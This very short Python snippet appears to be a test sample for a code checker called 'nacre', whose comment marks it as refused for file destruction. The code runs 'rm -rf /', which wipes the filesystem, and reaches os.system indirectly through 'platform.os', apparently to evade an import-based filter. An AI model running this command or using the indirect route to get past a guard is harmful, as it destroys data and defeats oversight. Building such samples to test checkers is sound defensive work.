# nacre: refused file.destroy
import platform
platform.os.system('rm -rf /')
